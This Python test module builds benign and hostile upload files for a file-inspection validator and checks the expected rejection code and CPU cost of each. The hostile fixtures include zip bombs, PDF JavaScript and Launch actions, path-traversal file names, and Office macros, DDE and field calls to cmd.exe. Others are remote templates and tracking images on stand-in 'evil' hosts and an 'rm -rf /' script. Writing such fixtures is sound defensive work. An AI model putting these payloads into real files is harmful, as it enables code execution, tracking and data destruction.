"""Hostile and odd files, built in code, and their good twins: each with the answer it must get.

As a command, `python -m tests.govlab.corpus`, it says how much CPU time the slowest of them cost.
"""

import io
import random
import struct
import sys
import time
import zipfile
import zlib

import django
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from govlab import files

THAI = "รายงานความคืบหน้า ขั้นที่ ๒ (น้ำฝน).pdf"
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
HTML = b"<html><script>alert(1)</script></html>"
STREAM = b"4 0 obj\n<</Length 9>>\nstream\n%s\nendstream\nendobj\n"


def picture(form: str, **options: object) -> bytes:
    """A small picture that isn't one colour, so that its data is worth compressing."""
    out = io.BytesIO()
    Image.effect_noise((64, 48), 80).convert("RGB").save(out, form, **options)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, more: bytes = b"") -> bytes:
    """A PNG that claims this size, whatever its data holds."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b"")


def pdf(extra: bytes = b"", tail: bytes = b"\n") -> bytes:
    start = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
    return start + extra + b"trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF" + tail


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def office(ending: str, more: dict[str, bytes] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A document with the least a document holds, and `more`."""
    parts = {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", MAIN[ending]: b"<main/>"}
    return zipped(parts | (more or {}), method)


def says(at: int, form: str, value: int) -> bytes:
    """A document whose zip directory says this of its main part (`at`: offset in the entry, APPNOTE 4.3.12)."""
    document = bytearray(office("docx"))
    struct.pack_into(form, document, document.rindex(b"word/document.xml") - 46 + at, value)
    return bytes(document)


def as_java_writes_it() -> bytes:
    """A workbook with the 64-bit fields that streaming writers fill in whether needed or not."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(zipfile, "ZIP64_LIMIT", 5)
        return office("xlsx")


JPG, PNG, WEBP = picture("JPEG"), picture("PNG"), picture("WEBP")
ZIP = zipped({"a.txt": b"hidden"})
MOVES = {"save_all": True, "append_images": [Image.new("RGB", (64, 48))]}

GOOD = [
    ("a photograph", "ภาพถ่าย.JPG", JPG),
    ("a progressive photograph", "photo.jpeg", picture("JPEG", progressive=True)),
    ("a photograph with a second one behind it, as phones do", "hdr.jpg", JPG + JPG),
    ("a photograph with its phone's notes behind it", "s.jpg", JPG + b"\0\0\1\x0aImage_UTC_Data1SEFHSEFT"),
    ("a photograph with a clip behind it", "m.jpg", JPG + b"\0\0\0\x18ftypmp42" + b"\1" * 99),
    ("a thumbnail that ends early", "e.jpg", JPG[:2] + b"\xff\xe1\0\x08ab\xff\xd8\xff\xd9" + JPG[2:]),
    ("a screenshot", "screen.png", PNG),
    ("a moving png", "moves.png", picture("PNG", **MOVES)),
    ("a webp", "p.webp", WEBP),
    ("a moving webp", "p.webp", picture("WEBP", **MOVES)),
    ("a pdf with a Thai name", THAI, pdf()),
    ("a pdf with a name of 200 characters", "ก" * 196 + ".pdf", pdf()),
    ("a pdf of just 20 MB", "a.pdf", pdf(b" " * (files.MAX_BYTES - len(pdf())))),
    ("a pdf saved twice", "x.pdf", pdf() + b"5 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\r\n"),
    ("a pdf whose packed data holds /JS by chance", "x.pdf", pdf(STREAM % b"\x9c/JS \x01")),
    ("a pdf with names that only begin like a script", "x.pdf", pdf(b"<</JSFont 1 /LaunchDate 2>>\n")),
    ("a Word document", "รายงาน.docx", office("docx")),
    ("a document of Word on the web", "w.docx", zipped({"[Content_Types].xml": b"", "word/document2.xml": b""})),
    ("an Excel workbook", "งบ 1.2.xlsx", office("xlsx")),
    ("a workbook that isn't packed", "b.xlsx", office("xlsx", method=zipfile.ZIP_STORED)),
    ("a workbook as Java writes it", "j.xlsx", as_java_writes_it()),
    ("slides with a workbook inside", "s.pptx", office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx")})),
]  # fmt: skip

SOUND = {"jpg": JPG, "png": PNG, "webp": WEBP, "pdf": pdf(), "docx": office("docx")}
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def linked(ending: str, kind: str, target: str, part: str = "word/_rels/settings.xml.rels", **more: bytes) -> bytes:
    """A document one part of which is linked with the target."""
    mode = "" if more else ' TargetMode="External"'
    body = f'<Relationships><Relationship Id="r1" Type="{LINKS}{kind}" Target="{target}"{mode}/></Relationships>'
    return office(ending, {part: body.encode(), **more})


def fields(*said: str) -> bytes:
    """A Word document whose field is spread over several runs, as Word itself writes it."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in said)
    return zipped({"[Content_Types].xml": b"<Types/>", MAIN["docx"]: f"<w:document>{runs}</w:document>".encode()})


def packed(body: bytes, spelled: bytes = b"ObjStm", more: bytes = b"") -> bytes:
    """A PDF with objects in a packed stream."""
    data = zlib.compress(body)
    head = b"7 0 obj\n<</Type/%s/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\r\n" % (spelled, len(data))
    return pdf(head + data + b"\nendstream\nendobj\n" + more)


def jpeg_of(width: int, height: int, scans: int = 0) -> bytes:
    """A photograph that claims this size, and is drawn over as often as `scans` says."""
    at = JPG.index(b"\xff\xc0")
    claimed = JPG[: at + 5] + struct.pack(">HH", height, width) + JPG[at + 9 :]
    return claimed[:-2] + claimed[claimed.index(b"\xff\xda") : -2] * scans + claimed[-2:]


def webp_of(width: int, height: int) -> bytes:
    """A picture that claims this size on its canvas."""
    canvas = b"VP8X\n\0\0\0\0\0\0\0" + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    return b"RIFF" + struct.pack("<I", len(WEBP) - 8 + len(canvas)) + b"WEBP" + canvas + WEBP[12:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = b"GIF89a\x01\0\x01\0\0\0\0!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\0;"
BOMB = office("xlsx", {"xl/worksheets/sheet1.xml": b"\0" * 3_000_000})
DEEP = office("docx", {"word/embeddings/a.docx": office("docx", {"word/embeddings/b.docx": office("docx")})})
NOT_A_TEMPLATE = "http://evil.example/t.dotm"

GOOD += [
    ("a pdf whose packed objects hold no script", "o.pdf", packed(b"1 0 <</Type/Page/JSFont 2>>")),
    ("a pdf that leads to a web page on a click", "l.pdf", pdf(b"<</S/URI/URI(https://example.org/)>>\n")),
    ("a document with a link to click on", "a.docx", linked("docx", "hyperlink", "https://www.opdc.go.th/")),
    ("a document made from the office's own template", "a.docx",
     linked("docx", "attachedTemplate", "file:///C:\\Users\\somsri\\Templates\\บันทึก.dotx")),
    ("a workbook that counts on another one beside it", "a.xlsx",
     linked("xlsx", "externalLinkPath", "งบ%202562.xlsx", "xl/externalLinks/_rels/externalLink1.xml.rels")),
    ("slides with a film to play", "a.pptx",
     linked("pptx", "video", "https://www.youtube.com/embed/x", "ppt/slides/_rels/slide1.xml.rels")),
    ("slides with a chart and its numbers", "a.pptx",
     linked("pptx", "package", "../embeddings/a.xlsx", "ppt/charts/_rels/chart1.xml.rels",
            **{"ppt/embeddings/a.xlsx": office("xlsx")})),
    ("a document with a table of contents and a page number", "a.docx", fields(' TOC \\o "1-3" ', " PAGE ")),
    ("a document in a document", "a.docx", DEEP),
    ("two endings, the last one true", "รายงาน.ฉบับร่าง.2562.pdf", pdf()),
    ("a name that only begins like a device's", "concept.pdf", pdf()),
    ("a phone's photograph that lies on its side", "p.jpg", picture("JPEG", exif=bytes.fromhex(
        "45786966000049492a00080000000100120103000100000006000000000000000000"))),
]  # fmt: skip

STRANGE = {"a web page": b"\n" + HTML, "a zip": ZIP, "a 7z": b"7z\xbc\xaf\x27\x1c"}
ACTIVE = [
    b"<</S/JavaScript>>", b"<</S/Rendition/JS (x)>>", b"<</S/Launch/F(cmd.exe)>>", b"<</Type/EmbeddedFile/Length 1>>",
    b"<</EmbeddedFiles 3 0 R>>", STREAM % b"x" + b"<</JS<</A 1>>>>", STREAM % (b"/JS " * 200),
]  # fmt: skip

HOSTILE = [
    ("an empty file", "a.pdf", b"", "empty"),
    ("a file a byte over 20 MB", "a.pdf", pdf(b" " * (files.MAX_BYTES + 1 - len(pdf()))), "too_big"),
    ("a name without an ending", "report", pdf(), "no_ending"),
    ("a name that is an ending", ".pdf", pdf(), "no_ending"),
    *[(f"a file that ends in {ending}", f"report.pdf.{ending}", office("docx"), "ending")
      for ending in ("exe", "svg", "html", "docm", "xlsm", "doc", "xls", "zip", "heic", "pdf\u0e01")],
    *[(f"a name like {name!a}", name, pdf(), "name")
      for name in ("a.exe\0.pdf", "a\r\nb: c.pdf", "../../a.pdf", "..\\a.pdf", "a\u202efdp.exe.pdf", "a\u2067.pdf")],
    ("a name of 201 characters", "ก" * 197 + ".pdf", pdf(), "long_name"),
    ("a png called a jpg", "a.jpg", PNG, "content"),
    ("a wave called a webp", "a.webp", b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 32, "content"),
    ("a document behind a password", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "content"),
    ("a workbook called a document", "a.docx", office("xlsx"), "content"),
    ("a document without its contents", "a.docx", zipped({MAIN["docx"]: b"<main/>"}), "content"),
    *[(f"a {ending} that begins late", f"a.{ending}", b"\n" + good, "content") for ending, good in SOUND.items()],
    *[(f"a {ending} cut off", f"a.{ending}", SOUND[ending][:-30], code)
      for ending, code in zip(SOUND, ("picture", "picture", "picture", "pdf_end", "office"), strict=True)],
    ("a jpg of a hundred thousand parts", "a.jpg", b"\xff\xd8" + b"\xff\xe0\0\2" * 100_000 + b"\xff\xd9", "picture"),
    ("a png with a wrong checksum", "a.png", PNG[:60] + bytes([PNG[60] ^ 1]) + PNG[61:], "picture"),
    *[(f"a png of {width} × {height}", "a.png", png(width, height), "pixels")
      for width, height in ((50_000, 50_000), (10_000, 10_000), (8_000, 5_001))],
    *[(f"{what} behind a {ending}", f"a.{ending}", good + more, "stowaway")
      for ending, good in SOUND.items() for what, more in STRANGE.items()],
    ("a secret behind a png", "a.png", PNG + b"secret", "stowaway"),
    ("a pdf behind a jpg", "a.jpg", JPG + pdf(), "stowaway"),
    ("a program behind a jpg", "a.jpg", JPG + b"\x7fELF\2\1\1", "stowaway"),
    ("a web page in a jpg's first comment", "a.jpg", JPG[:2] + b"\xff\xfe\0\x28" + HTML + JPG[2:], "stowaway"),
    ("a web page in a pdf's first comment", "a.pdf", b"%PDF-1.7\n%<ScRiPt>\n" + pdf()[9:], "stowaway"),
    ("a zip in a part of a png", "a.png", png(8, 8, chunk(b"prVt", ZIP)), "stowaway"),
    ("a pdf with junk behind its end", "a.pdf", pdf(tail=b"\njunk" * 9), "pdf_end"),
    *[(f"a pdf with {part[:40]!a}", "a.pdf", pdf(part + b"\n"), "active") for part in ACTIVE],
    *[(f"a document that holds {name!a}", "a.docx", office("docx", {name: b"x"}), code) for name, code in (
        ("word/vbaProject.bin", "macro"), ("word/VBAPROJECT.BIN", "macro"), ("xl/macrosheets/sheet1.xml", "macro"),
        ("word/../../../etc/cron.d/a", "office"), ("/etc/passwd", "office"), ("C:\\a.dll", "office"),
        ("WORD/document.XML", "office"), ("word/\u202elmx.a", "office"))],
    ("a document with a locked part", "a.docx", says(8, "<H", 1), "office"),
    ("a document that claims 3 GB", "a.docx", says(24, "<I", 3_000_000_000), "bomb"),
    ("entries that share their bytes", "a.docx", says(42, "<I", 0), "bomb"),
    ("a workbook bomb", "a.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": b"\0" * 3_000_000}), "bomb"),
    ("211 MB thinly spread", "a.docx", office("docx", {f"word/{n}": b"\0" * 1_000_000 for n in range(211)}), "bomb"),
    ("a document of 2,001 entries", "a.docx", office("docx", {f"word/{n}": b"" for n in range(1998)}), "bomb"),
    ("a document of 20,005 entries", "a.docx", office("docx") + b"PK\1\2" * 20_002, "bomb"),
]  # fmt: skip

HOSTILE += [
    # names
    *[(f"a device of Windows: {name}", name, pdf(), "reserved") for name in ("CON.pdf", "nul.docx.pdf", "Lpt1 .pdf")],
    ("a name of spaces and dots", " . . ", pdf(), "name"),
    ("a very long Thai name", "รายงานความคืบหน้าโครงการ" * 12 + ".pdf", pdf(), "long_name"),
    ("a name with a mark that hides", "a\u200e.pdf", pdf(), "name"),
    # one thing under another's name
    ("an svg with a script, called a png", "a.png", SVG, "content"),
    ("an svg with a script", "แผนผัง.svg", SVG, "ending"),
    ("a web page called a jpg", "a.jpg", HTML, "content"),
    ("a gif called a png", "a.png", GIF, "content"),
    ("a program called a pdf", "a.pdf", b"MZ" + b"\0" * 600, "content"),
    ("a script called a docx", "a.docx", b"#!/bin/sh\nrm -rf /\n" * 30, "content"),
    ("slides called a workbook", "a.xlsx", office("pptx"), "content"),
    # two things in one
    ("a jpg that is a zip", "a.jpg", JPG + ZIP, "stowaway"),
    ("a jpg that is a web page", "a.jpg", JPG + HTML, "stowaway"),
    ("a pdf that is a zip", "a.pdf", pdf() + ZIP, "stowaway"),
    ("a webp with a zip in a part of its own", "a.webp",
     b"RIFF" + struct.pack("<I", len(WEBP) + len(ZIP) + len(ZIP) % 2) + WEBP[8:]
     + b"JUNK" + struct.pack("<I", len(ZIP)) + ZIP + b"\0" * (len(ZIP) % 2), "stowaway"),
    # pictures that would fill the memory
    ("a webp of 16 million × 16 million", "a.webp", webp_of(2**24, 2**24), "pixels"),
    ("a webp of 8,000 × 8,000", "a.webp", webp_of(8000, 8000), "pixels"),
    ("a jpg of 65,535 × 65,535", "a.jpg", jpeg_of(65_535, 65_535), "pixels"),
    ("a jpg drawn over six hundred times", "a.jpg", jpeg_of(64, 48, scans=600), "picture"),
    ("a png of a hundred thousand parts", "a.png", png(8, 8, chunk(b"prVt", b"") * 100_000), "picture"),
    ("a webp whose part is longer than it", "a.webp", WEBP[:16] + b"\xff\xff\0\0" + WEBP[20:], "picture"),
    # scripts in a PDF that are spelled so that nobody sees them
    *[(f"a pdf with {part!a}", "a.pdf", pdf(part + b"\n"), "active") for part in (
        b"<</S/J#61vaScript>>", b"<</S/X/J#53 (x)>>", b"<</#4a#53 (x)>>", b"<</S/L#61unch>>", b"<</S/SubmitForm>>",
        b"<</Type/#45mbedde#64File>>", b"<</AcroForm<</XFA 5 0 R>>>>", b"<</Subtype/RichMedia>>")],
    ("a pdf with a script in packed objects", "a.pdf", packed(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"), "active"),
    ("the same, with the packing's name spelled out", "a.pdf", packed(b"1 0 <</JS(x)>>", b"Obj#53tm"), "active"),
    ("packed objects that don't unpack", "a.pdf", pdf(b"<</Type/ObjStm>>\nstream\nnot zlib\nendstream\n"), "active"),
    ("packed objects behind a password", "a.pdf",
     pdf(b"<</Type/ObjStm>>\nstream\nnot zlib\nendstream\n<</Encrypt 9 0 R>>\n"), "locked"),
    ("packed objects that unpack without end", "a.pdf", packed(b" " * 30_000_000), "bomb"),
    # documents that run, hold or fetch something
    ("a docm called a docx", "a.docx", zipped({MAIN["docx"]: b"<m/>", "[Content_Types].xml":
     b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}), "macro"),
    ("macros under another name", "a.docx", linked(
        "docx", "vbaProject", "a.xml", "word/_rels/document.xml.rels", **{"word/a.xml": b"\xd0\xcf\x11\xe0"}), "macro"),
    *[(f"a document whose template is {target}", "a.docx", linked("docx", "attachedTemplate", target), "remote")
      for target in (NOT_A_TEMPLATE, "file://evil/t.dotm", "\\\\evil\\t.dotm", "&#x68;ttp://evil/t", "%5C%5Cevil\\t")],
    ("the same in UTF-16", "a.docx", office("docx", {"word/_rels/settings.xml.rels": (
        f'<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Type="{LINKS}attachedTemplate" '
        f'Target="{NOT_A_TEMPLATE}" TargetMode="External"/></Relationships>').encode("utf-16")}), "remote"),
    ("a picture that tells who opened the document", "a.docx",
     linked("docx", "image", "https://evil.example/1.png", "word/_rels/footer1.xml.rels"), "remote"),
    ("a frame from elsewhere", "a.pptx",
     linked("pptx", "frame", "http://evil.example/", "ppt/slides/_rels/slide1.xml.rels"), "remote"),
    ("a workbook that asks a program", "a.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml":
     b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "remote"),
    ("a field that asks a program", "a.docx", fields(" D", "DEAUTO", ' c:\\cmd.exe "/k calc"'), "remote"),
    ("links with a DTD", "a.docx", office("docx", {"word/_rels/document.xml.rels":
     b'<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships/>'}), "office"),
    ("links that are no XML", "a.docx", office("docx", {"_rels/.rels": b"<Relationships"}), "office"),
    ("a document with an OLE object", "a.docx", linked(
        "docx", "oleObject", "embeddings/o.bin", "word/_rels/document.xml.rels",
        **{"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0"}), "object"),
    ("a workbook with an OLE object out of sight", "a.xlsx", linked(
        "xlsx", "oleObject", "../media/1.png", "xl/worksheets/_rels/a.xml.rels", **{"xl/media/1.png": b""}), "object"),
    ("a document with a packed program", "a.docx", linked(
        "docx", "package", "a.dat", "word/_rels/document.xml.rels", **{"word/a.dat": b"MZ"}), "object"),
    *[(f"a document that holds {name}", "a.docx", office("docx", {name: b"x"}), "object") for name in (
        "word/embeddings/a.bin", "word/embeddings/a.docm", "word/activeX/activeX1.xml", "word/media/a.exe",
        "word/afchunk.rtf", "word/a.HTML")],
    ("macros in a workbook in a document", "a.docx",
     office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}), "macro"),
    # zips that would fill the disk
    ("a bomb in a document", "a.docx", office("docx", {"word/embeddings/a.xlsx": BOMB}), "bomb"),
    ("documents four deep", "a.docx", office("docx", {"word/embeddings/a.docx": DEEP}), "bomb"),
    ("links of two megabytes", "a.docx", office("docx", {"_rels/.rels": b"<Relationships>" + b" " * 2**21}), "bomb"),
    ("a document that claims 3 GB in a document", "a.docx",
     office("docx", {"word/embeddings/a.docx": says(24, "<I", 3_000_000_000)}), "bomb"),
    ("a document packed in a way the format doesn't know", "a.docx", office("docx", method=zipfile.ZIP_LZMA), "office"),
    ("a part whose bytes are not what was packed", "a.docx",
     office("docx", method=zipfile.ZIP_STORED).replace(b"<Types/>", b"<types/>"), "office"),
]  # fmt: skip


def large() -> list[tuple[str, str, bytes]]:
    """Good files that are nearly as large as they may be; only for the command, as they take seconds to build."""
    noise = Image.effect_noise((4500, 4000), 120)
    out = io.BytesIO()
    noise.save(out, "PNG", compress_level=1)
    photograph = io.BytesIO()
    noise.convert("RGB").save(photograph, "JPEG", quality=92)
    text = b"".join(b"<w:p><w:t>%d</w:t></w:p>" % (n * 7919 % 1_000_003) for n in range(400_000))
    return [
        ("a large png", "a.png", out.getvalue()[: files.MAX_BYTES]),
        ("a large photograph", "a.jpg", photograph.getvalue()),
        (f"a document with {len(text) >> 20} MB of text", "a.docx", office("docx", {MAIN["docx"]: text})),
        ("a large pdf of noise", "a.pdf", pdf(STREAM % random.Random(1).randbytes(19_000_000))),
    ]


def cost(name: str, content: bytes) -> tuple[float, str]:
    """Milliseconds of CPU time that a look at a file takes, and its answer."""
    upload = SimpleUploadedFile("given.later", content)
    upload._name = name
    began, answer = time.process_time(), "let in"
    try:
        files.inspect(upload)
    except ValidationError as refusal:
        answer = str(refusal.code)
    return (time.process_time() - began) * 1000, answer


def main() -> int:
    """Prints the five slowest; 1 when one of them took more than 50 ms."""
    django.setup()
    rows = [(*row, "let in") for row in GOOD + large()] + HOSTILE
    costs = sorted(((*cost(name, content), what) for what, name, content, _code in rows), reverse=True)
    print(f"{len(HOSTILE)} hostile and {len(GOOD)} good files, milliseconds of CPU time:")
    for spent, answer, what in costs[:5]:
        print(f"{spent:7.1f}  {answer:9} {what}")
    return int(costs[0][0] > 50)


if __name__ == "__main__":
    sys.exit(main())
